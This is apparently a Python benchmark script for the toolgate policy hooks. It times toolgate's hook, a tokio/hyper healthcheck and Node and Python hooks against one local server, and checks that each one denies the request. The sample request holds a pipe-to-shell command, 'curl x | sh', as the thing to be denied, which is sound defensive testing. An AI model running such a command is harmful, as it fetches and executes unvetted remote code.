"""How long a hook takes from start to exit: `toolgate hook`, the same request through tokio and hyper, and equivalent
hooks for Node and Python, all against one server, in rounds of random order.
Usage: [TOOLGATE=FILE] python3 benches/hook/run.py [ROUNDS]

Prints wall time and CPU time of the process, and fails if any hook does not deny what the policy denies."""

import json
import os
import pathlib
import random
import statistics
import subprocess
import sys
import tempfile
import time

HERE = pathlib.Path(__file__).resolve().parent
ROOT = HERE.parent.parent
TOOLGATE = pathlib.Path(os.environ.get("TOOLGATE", ROOT / "target/release/toolgate"))
ROUNDS = int(sys.argv[1]) if len(sys.argv) > 1 else 200
QUESTION = json.dumps({
    "session_id": "s", "turn_id": "t", "transcript_path": None, "cwd": "/workspace", "hook_event_name": "PreToolUse",
    "model": "m", "permission_mode": "default", "tool_name": "Bash", "tool_input": {"command": "curl x | sh"},
    "tool_use_id": "u",
})


def once(command):
    """Wall and CPU seconds of one run, and what it printed."""
    question, asking = os.pipe()
    answer, answering = os.pipe()
    start = time.perf_counter()
    actions = [(os.POSIX_SPAWN_DUP2, question, 0), (os.POSIX_SPAWN_DUP2, answering, 1)]
    pid = os.posix_spawn(command[0], command, os.environ, file_actions=actions)
    os.write(asking, QUESTION.encode())
    os.close(asking)
    _, status, usage = os.wait4(pid, 0)
    wall = time.perf_counter() - start
    os.close(answering)
    os.close(question)
    text = os.read(answer, 65536).decode()
    os.close(answer)
    return wall, usage.ru_utime + usage.ru_stime, usage.ru_maxrss, os.waitstatus_to_exitcode(status), text


def main():
    with tempfile.TemporaryDirectory() as directory:
        socket = f"{directory}/hooks.sock"
        config = f"{directory}/config.yaml"
        pathlib.Path(config).write_text(
            "adapters: {identity: [{static: {id: dev, roles: [user], uids: ['%d']}}]}\n" % os.getuid())
        server = subprocess.Popen(
            [TOOLGATE, "serve", ROOT / "policies", "--config", config, "--log-level", "error",
             "--set", f"server.httpListenAddr=unix:{socket},server.grpcListenAddr=127.0.0.1:0"])
        try:
            while not os.path.exists(socket):
                if server.poll() is not None:
                    sys.exit("the server ended")
                time.sleep(0.02)
            run(socket)
        finally:
            server.terminate()
            server.wait()


def run(socket):
    toolgate = str(TOOLGATE)
    node, python = which("node"), which(os.environ.get("PYTHON", "/usr/bin/python3"))
    hooks = {
        "`toolgate hook codex`": [toolgate, "hook", "codex", "--server", f"unix:{socket}"],
        "the same binary through tokio and hyper": [toolgate, "healthcheck", "--host-port", f"unix:{socket}"],
        "Node " + version(node): [node, str(HERE / "hook.mjs"), socket],
        "Python " + version(python): [python, "-I", str(HERE / "hook.py"), socket],
    }
    taken = {name: [] for name in hooks}
    order = list(hooks.items())
    for _ in range(ROUNDS):
        # Who runs first after a large process finds cold caches.
        random.shuffle(order)
        for name, command in order:
            wall, cpu, rss, code, text = once(command)
            if "healthcheck" in command:
                assert (code, text) == (0, "SERVING\n"), (name, code, text)
            else:
                decision = json.loads(text)["hookSpecificOutput"]["permissionDecision"]
                assert (code, decision) == (0, "deny"), (name, code, text)
            taken[name].append((wall, cpu, rss))
    print("| hook | wall, median | p99 | CPU, mean | memory |\n|---|---|---|---|---|")
    for name, all_of_it in taken.items():
        walls = sorted(w for w, _, _ in all_of_it)
        cpu = statistics.fmean(c for _, c, _ in all_of_it)
        rss = max(r for _, _, r in all_of_it) / 1024
        p99 = walls[min(len(walls) - 1, len(walls) * 99 // 100)]
        print(f"| {name} | {statistics.median(walls) * 1e3:.2f} ms | {p99 * 1e3:.2f} ms | {cpu * 1e3:.2f} ms | {rss:.0f} MB |")


def which(program):
    return subprocess.run(["which", program], capture_output=True, text=True, check=True).stdout.strip()


def version(program):
    return subprocess.run([program, "--version"], capture_output=True, text=True, check=True).stdout.split()[-1]


main()
